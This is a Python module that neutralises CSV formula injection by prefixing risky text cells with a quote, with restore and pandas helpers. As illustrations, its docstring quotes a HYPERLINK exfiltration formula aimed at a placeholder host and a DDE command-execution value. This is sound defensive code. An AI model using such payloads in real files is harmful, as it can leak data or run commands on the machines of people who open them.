"""CSV cells a spreadsheet will not run as formulas (OWASP's CSV-injection rule; ADR 0027).

Every CSV this project writes for people to open (rejects files, ``export links``, the synthetic
council's truth file) goes through :func:`cell` (or :func:`frame`): a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed (or their full-width forms,
which some spreadsheets also read as formulas) gets a ``'`` in front, so Excel, LibreOffice and
Google Sheets show it as text instead of evaluating it: ``=HYPERLINK("http://evil.example/?d="&B2)``
typed as an email reaches the data officer as ``'=HYPERLINK(...)``.

Phone numbers (``+447700900123``) and negative-looking text (``-3.5``) are escaped too, as OWASP
says: telling a harmless ``+44...`` from ``+44+cmd|' /C calc'!A0`` is exactly the parsing we will
not get right, and a ``'`` in front of a phone number costs a reader nothing. Numbers written as
numbers (ints and floats, e.g. a row number) are left alone. A text cell that already begins with
``'`` gets one more, so :func:`restore` gives back exactly the value written, whatever it was.

>>> cell('=1+2'), cell('+447700900123'), cell("'quoted"), cell('Ann'), cell(-3)
("'=1+2", "'+447700900123", "''quoted", 'Ann', -3)
>>> restore(cell('=1+2')), restore(cell("'quoted"))
('=1+2', "'quoted")
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

__all__ = ["FORMULA_PREFIXES", "cell", "row", "restore", "frame"]

#: first characters that make a spreadsheet read a cell as a formula (OWASP), with the
#: full-width forms of the four symbols
FORMULA_PREFIXES: frozenset[str] = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_QUOTE = "'"


def cell(value: Any) -> Any:
    """``value`` safe for a CSV cell: text starting with a formula prefix (or with ``'``) gets a
    ``'`` in front; anything else, numbers included, is returned as it is."""
    if isinstance(value, str) and value and (value[0] in FORMULA_PREFIXES or value[0] == _QUOTE):
        return _QUOTE + value
    return value


def row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`cell`."""
    return [cell(v) for v in values]


def restore(value: str) -> str:
    """The value :func:`cell` was given, from the text it wrote (for a program reading a file
    it wrote back): one leading ``'`` dropped."""
    return value[1:] if value.startswith(_QUOTE) else value


def frame(df: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell (and the header) through :func:`cell`."""
    out = df.copy()
    out.columns = [cell(c) for c in out.columns]
    for col in out.columns:
        if out[col].dtype == object or str(out[col].dtype) in ("string", "str"):
            out[col] = out[col].map(cell, na_action="ignore")
    return out
